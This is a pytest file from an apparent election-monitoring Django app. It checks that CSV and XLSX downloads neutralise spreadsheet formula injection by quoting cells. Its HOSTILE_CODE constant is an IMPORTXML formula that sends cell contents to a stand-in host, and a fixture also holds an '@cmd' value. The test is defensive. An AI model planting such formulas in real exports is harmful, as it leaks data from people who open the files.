"""Downloads never hand a spreadsheet a formula: OWASP's quote, strings in XLSX."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from pollwatch.forms.services import publish_form_version
from pollwatch.lib.downloads import FORMULA_STARTS, csv_text, safe_cell, safe_text, xlsx_bytes
from pollwatch.registry.models import Area, PollingStation
from tests.builders import CHECKLIST
from tests.findings.builders import report

HOSTILE_CODE = '=2+5*IMPORTXML("http://example.invalid/?leak="&A1,"//a")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_evaluate_gets_a_quote(start):
    assert safe_text(start + "SUM(A1:A9)") == "'" + start + "SUM(A1:A9)"


@pytest.mark.parametrize("number", ["-12", "+3.5", "-0.25", "1e-05", "-.5"])
def test_a_text_that_is_just_a_number_stays_as_it_is(number):
    assert safe_text(number) == number


def test_numbers_and_empty_cells_stay_as_they_are():
    assert [safe_cell(v) for v in (-3, 2.5, None, True)] == [-3, 2.5, None, True]


@given(st.text())
def test_no_safe_text_starts_a_formula_unless_it_is_a_number(text):
    safe = safe_text(text)
    assert safe.endswith(text)
    if safe.startswith(FORMULA_STARTS):
        assert float(safe) == float(text)


def test_csv_text_quotes_the_hostile_cell_and_reads_back():
    rows = list(csv.reader(io.StringIO(csv_text(["code", "voters"], [[HOSTILE_CODE, -4]]))))
    assert rows == [["code", "voters"], ["'" + HOSTILE_CODE, "-4"]]


def test_xlsx_text_cells_are_strings_and_numbers_numbers():
    workbook = load_workbook(io.BytesIO(xlsx_bytes("t", ["code", "n"], [[HOSTILE_CODE, -4]])))
    code, number = workbook.active["A2"], workbook.active["B2"]
    assert (code.data_type, code.value) == ("s", "'" + HOSTILE_CODE)
    assert (number.data_type, number.value) == ("n", -4)


def test_xlsx_keeps_a_cell_with_a_control_character():
    workbook = load_workbook(io.BytesIO(xlsx_bytes("t", ["name"], [["bell\x07here"]])))
    assert workbook.active["A2"].value == "bell\ufffdhere"


@pytest.fixture
def hostile_station(election):
    return PollingStation.objects.create(
        election=election,
        code=HOSTILE_CODE,
        name="@cmd",
        area=Area.objects.get(election=election, code="N1"),
        registered_voters=900,
    )


def test_station_csv_export_neutralises_formulas(client, administrator, election, hostile_station):
    client.force_login(administrator)
    response = client.get(reverse("registry:election", args=[election.slug]), {"format": "csv"})
    text = b"".join(response.streaming_content).decode()
    row = next(r for r in csv.reader(io.StringIO(text)) if HOSTILE_CODE in r[0])
    assert row[0] == "'" + HOSTILE_CODE and row[1] == "'@cmd"


def test_incident_xlsx_export_writes_the_code_as_a_string(
    client, administrator, mission, election, hostile_station
):
    voting = publish_form_version({**CHECKLIST, "code": "voting"})
    submission = report(
        mission, voting, hostile_station, {"secrecy": "no", "stuffing": "yes", "overall": "bad"}
    )
    submission.alerts = [{"question": "stuffing", "answer": "yes"}]
    submission.save()
    client.force_login(administrator)
    response = client.get(reverse("findings:incidents", args=[mission.slug]), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["B1"].value == "station"
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("s", "'" + HOSTILE_CODE)
    assert sheet["G2"].data_type == "n"


def test_a_statements_figures_csv_neutralises_formulas():
    from types import SimpleNamespace

    from pollwatch.statements.exports import figures_csv

    version = SimpleNamespace(data={"figures": [{"reference": HOSTILE_CODE, "count": 3}]})
    rows = list(csv.reader(io.StringIO(figures_csv(version))))
    assert rows[1][:2] == ["'" + HOSTILE_CODE, "3"]
